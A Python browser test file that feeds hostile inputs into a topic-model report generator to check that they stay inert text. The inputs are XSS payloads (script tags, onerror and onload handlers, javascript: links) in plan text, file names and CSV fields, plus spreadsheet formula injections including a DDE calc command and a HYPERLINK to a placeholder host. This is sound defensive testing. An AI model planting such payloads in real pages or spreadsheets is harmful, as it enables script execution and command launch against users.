"""Plans that attack their reader: fitted, reported, opened, searched, exported; nothing runs, all of it is text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

import topics
from tests.browser.conftest import Opened
from tests.conftest import FakeEncoder
from tests.small import write_corpus

ATTACKS = {
    "script": "培育企业<script>window.pwned = 1; alert(1)</script>二十三家，研发投入占比升到百分之三。",
    "ends": "改造老旧小区</script></style></title><!--<script>window.pwned = 2</script>十八个，打通断头路。",
    "picture": '完成河道清淤"><img src=x onerror="window.pwned = 3">七公里，空气质量优良。',
    "link": '新建小学<a href="javascript:window.pwned=4">两所</a>，新增学位一千六百个。',
    "formula": '=HYPERLINK("http://example.invalid/"&A1,"点此")，开展党员轮训十二期，整顿基层党组织五个。',
    "template": "组建产业链招商专班{{ 7 * 7 }}{% raw %}${window.pwned = 5}`，新增企业十五家。",
    "separators": "推进垃圾分类\u2028全覆盖\u2029，关停锅炉\u0085九台，补种行道树两千棵。",
    "bidi": "扩建区医院\u202eтекст\u2066门诊楼\u200f，帮助困难家庭高校毕业生就业。",
    "entity": "落实全面从严治党&lt;b&gt;主体责任&amp;nbsp;&#60;i&#62;，选派第一书记二十名。",
}
DISTRICT = '"><img src=x onerror=window.pwned=6>区'
REGION = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, fake_encoder: FakeEncoder) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    plans = write_corpus(folder / "plans")
    lines = ["<script>alert(9)</script>区2021年工作报告", "一、2020年工作回顾"]
    lines += [f"（{'一二三四五六七八九'[i]}）{text}" for i, text in enumerate(ATTACKS.values())]
    lines += ["二、2021年工作安排</script>", "（一）今年要改造老旧小区三十个<svg onload=window.pwned=7>。"]
    (plans / "<b>攻击.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    rows = [
        (f"{district}_{year}.txt", district, year, "甲")
        for district in ("甲山区", "乙水区", "丙林县")
        for year in (2020, 2021)
    ]
    with (plans / "plans.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [("file", "district", "year", "<i>region</i>"), *rows, ("<b>攻击.txt", DISTRICT, 2021, REGION)]
        )
    model = topics.fit(plans, folder / "models" / "<u>hostile", encoder=fake_encoder)
    page = folder / "report.html"
    page.write_text(model.report(), encoding="utf-8")
    return page


def harmless(page: Page) -> None:
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert page.evaluate("document.querySelectorAll('script').length") == 2
    for selector in ("img", "iframe", "object", "b b", "[onerror]", "[onload]", "svg[onload]", "a[href^='javascript']"):
        assert page.locator(selector).count() == 0, selector
    outside = page.evaluate(
        "[...document.querySelectorAll('a[href]')].filter(a => !a.getAttribute('href').startsWith('#')).length"
    )
    assert outside == 0


def test_nothing_in_a_plan_runs(opened: Opened, hostile: Path) -> None:
    page = opened(hostile)
    harmless(page)
    for theme in page.locator("details.theme").all():
        theme.evaluate("node => { node.open = true; }")
    expect(page.locator("h1")).to_contain_text("<u>hostile")
    expect(page.locator("#corpus-plans")).to_contain_text("<b>攻击.txt")
    expect(page.locator("#shares-matrix")).to_contain_text(DISTRICT)
    page.locator("#corpus-plans tbody tr", has_text="攻击").locator("a").first.click()
    harmless(page)
    found = page.locator("#found").inner_text()
    for name, text in ATTACKS.items():
        if name not in {"separators", "bidi", "formula"}:  # their characters are folded as white space when read
            assert text in found, name
    assert 'HYPERLINK("http://example.invalid/"&A1,"点此")' in found
    for button in page.locator("#found .unfold").all():
        button.click()
    harmless(page)


def test_what_is_looked_for_is_text_too(opened: Opened, hostile: Path) -> None:
    page = opened(hostile, "#glance?p.q=" + "%3Cscript%3Ewindow.pwned")
    assert page.locator("#found mark").all_inner_texts() == ["<script>window.pwned"] * 2
    page.locator("#q").fill('"><img src=x onerror=window.pwned=8>')
    expect(page.locator("#count")).to_contain_text("0 段")
    page.evaluate("location.hash = '#compare?a=<img src=x onerror=window.pwned=9>&b=甲山区'")
    expect(page.locator("#compare caption")).to_contain_text("<img")
    harmless(page)


def test_a_spreadsheet_gets_no_formula(opened: Opened, hostile: Path, tmp_path: Path) -> None:
    page = opened(hostile, "#corpus")
    with page.expect_download() as waiting:
        page.get_by_role("button", name="导出 CSV：读入的文件").click()
    waiting.value.save_as(tmp_path / "documents.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "documents.csv").read_bytes().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{REGION}" in cells
    assert f"{DISTRICT}@2021" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))]
